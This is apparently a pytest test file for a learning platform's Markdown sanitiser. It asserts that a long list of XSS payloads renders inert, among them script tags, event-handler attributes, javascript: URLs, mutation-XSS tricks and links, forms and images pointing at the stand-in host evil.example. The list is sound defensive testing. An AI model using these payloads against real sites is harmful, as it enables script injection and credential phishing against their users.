"""Whatever an author writes, no script reaches the page; what a lesson needs does."""

from __future__ import annotations

import re
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.web.markdown import ATTRIBUTES, TAGS, render_document, render_markdown

ALLOWED = set(TAGS.split())

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oneonerrorrror=alert(1)//>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=javascript:alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>登录</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '![x](x"onerror="alert(1))',
    '![x" onerror="alert(1)](a.png)',
    "![x](//evil.example/t.png)",
    "![x](https://evil.example/t.png)",
    "![x](\\\\evil.example\\t.png)",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio autoplay onplay=alert(1)><source src=x></audio>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>x</x>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<p id=main class=shell hx-get=/sign-out data-confirm=x>x</p>",
    "<h2 id=toasts>x</h2>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html onload=alert(1)\n<b>\n```",
    "~~~{.x onclick=alert(1)}\nx\n~~~",
    "\x02script\x03alert(1)\x02/script\x03",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "==<script>alert(1)</script>==",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [x] <img src=x onerror=alert(1)>",
]


class Reader(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            allowed = ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
            allowed |= {"id"} if re.fullmatch("h[1-6]", tag) and (value or "").startswith("s-") else set()
            if name not in allowed:
                self.bad.append(f"<{tag} {name}>")
            scheme = re.match(r"[\x00-\x20]*([a-z][a-z0-9+.-]*)\s*:", value or "", re.IGNORECASE)
            if name in ("href", "src") and scheme and scheme[1].lower() not in ("http", "https", "mailto", "tel"):
                self.bad.append(f"{name}={value}")
            if name == "src" and re.match(r"[\x00-\x20]*([\\/]{2}|https?:)", value or ""):
                self.bad.append(f"{name}={value}")

    handle_startendtag = handle_starttag


def seen(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.bad


def test_the_reader_would_notice() -> None:
    assert seen("<script>") and seen("<p onclick=x>") and seen("<a href='javascript:x'>") and seen("<img src='//x'>")


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_inert(attack: str) -> None:
    for html in (render_markdown(attack), render_document(attack).html, render_markdown(f"文字 {attack} 文字")):
        assert seen(str(html)) == []


@given(st.text(alphabet=st.sampled_from("<>/\"'`=()[]!#*_~|: \n\tabcjsx&;-\\中"), max_size=120))
@settings(max_examples=150, deadline=None)
def test_no_text_whatever_gets_script_through(text: str) -> None:
    assert seen(str(render_markdown(text))) == []


def test_what_a_lesson_needs_comes_through() -> None:
    html = str(
        render_markdown(
            "## 小节\n\n一段**重点**，\n换行后继续。\n\n- [x] 做了\n- [ ] 没做\n\n| 甲 | 乙 |\n|---|--:|\n| 1 | 2 |\n\n"
            "> 引用\n\n~~旧~~ ==新==\n\n```\n<b>\n```\n\n[规则](https://rule.example/a) ![图](/files/1.png)"
        )
    )
    assert "<h2>小节</h2>" in html
    assert "<p>一段<strong>重点</strong>，换行后继续。</p>" in html
    assert "☑" in html and "☐" in html
    assert '<td align="right">2</td>' in html
    assert "<del>旧</del> <mark>新</mark>" in html
    assert "&lt;b&gt;" in html
    assert '<a href="https://rule.example/a" rel="noopener noreferrer">规则</a>' in html
    assert '<img alt="图" src="/files/1.png">' in html


def test_a_document_has_contents_that_link_to_its_headings() -> None:
    shown = render_document("# 题\n## 甲 与 乙\n### a_b(c)\n## 甲 与 乙\n")
    assert shown.contents == ((2, "s-甲-与-乙", "甲 与 乙"), (3, "s-a_b-c", "a_b(c)"), (2, "s-甲-与-乙_1", "甲 与 乙"))
    assert all(f'id="{id}"' in shown.html for _level, id, _name in shown.contents)


def test_the_libraries_load_at_the_first_use() -> None:
    heavy = ("markdown", "nh3", "xlsxwriter", "python_calamine", "pymdownx")
    code = (
        f"import sys, lms.web.setup, lms.web.markdown, lms.web.sheets; print([m for m in {heavy} if m in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"
